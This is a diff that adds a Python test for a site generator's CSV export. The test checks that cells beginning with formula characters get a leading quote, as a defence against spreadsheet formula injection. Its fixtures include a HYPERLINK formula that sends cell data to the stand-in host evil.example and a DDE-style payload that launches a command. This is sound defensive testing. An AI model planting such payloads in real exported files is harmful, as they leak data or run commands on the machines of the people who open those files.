@@ -185,3 +185,24 @@ def test_a_fresh_init_site_is_checked_and_the_workflow_still_deploys_it(tmp_path
     check = next(s for s in flow["jobs"]["build"]["steps"] if "itagen check" in s.get("run", ""))
     assert check["continue-on-error"] is True
     assert "pull_request" in flow[True] and flow["jobs"]["deploy"]["if"] == "github.event_name != 'pull_request'"
+
+
+def test_export_csv_neutralises_spreadsheet_formulas(site, tmp_path):
+    # A title made for Excel to run (OWASP "CSV Injection"): each such cell gets a leading quote.
+    site.item("9.1", "O2", """
+        title: '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")'
+    """, "ข้อมูล\\n")
+    site.item("9.1", "O3", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'", "ข้อมูล\\n")
+    site.item("9.1", "O4", "title: '+1+1'", "ข้อมูล\\n")
+    site.item("9.1", "O5", "title: '-2+3'", "ข้อมูล\\n")
+    out = tmp_path / "itas.csv"
+    assert main(["export", "itas", str(site.root), "-o", str(out)]) == 0
+    rows = {r[0]: r for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+    assert rows["O2"][1] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"คลิก\")"
+    assert rows["O3"][1].startswith("'@SUM")
+    assert rows["O4"][1] == "'+1+1" and rows["O5"][1] == "'-2+3"
+    for row in rows.values():
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
+    from itagen.commands.export import cell
+
+    assert cell("\t=1") == "'\t=1" and cell("\r=1") == "'\r=1" and cell("ข้อมูล") == "ข้อมูล"
